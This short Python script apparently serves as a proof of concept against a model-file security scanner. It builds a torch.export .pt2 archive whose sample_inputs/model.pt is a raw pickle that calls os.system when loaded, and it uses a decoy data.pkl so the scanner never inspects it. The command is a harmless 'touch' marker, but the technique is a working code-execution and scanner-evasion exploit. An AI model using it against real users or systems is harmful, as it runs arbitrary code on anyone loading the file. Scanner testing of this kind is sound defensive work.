# torch.export archive (.pt2) whose sample_inputs/model.pt is a *legacy* (non-zip) torch file: a raw
# pickle. torch.export.load hands it to torch.load (weights_only=True, then falls back to
# weights_only=False); the legacy path's first pickle.load runs the payload. A decoy base/data.pkl
# names sample_inputs/model.pt as a storage key: the scanner treats it as raw tensor data and only
# looks inside when it is a whole zip archive (review37 fix), so a raw pickle there is never walked.
import torch, zipfile, io, os, pickle, collections, sys
out = os.path.abspath(sys.argv[1]) if len(sys.argv) > 1 else "pt2_legacy_storage.pt2"
here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.join(here, ".."))
from pt2_decoy import export_base, with_decoy_sample  # noqa: E402
base = os.path.join(here, "base.pt2")
export_base(base)
class P:
    def __reduce__(s): return (os.system, ("touch /tmp/review39/pwned_pt2_legacy_storage",))
nested = pickle.dumps(P(), protocol=2)

with_decoy_sample(base, out, nested)
print("written", out)
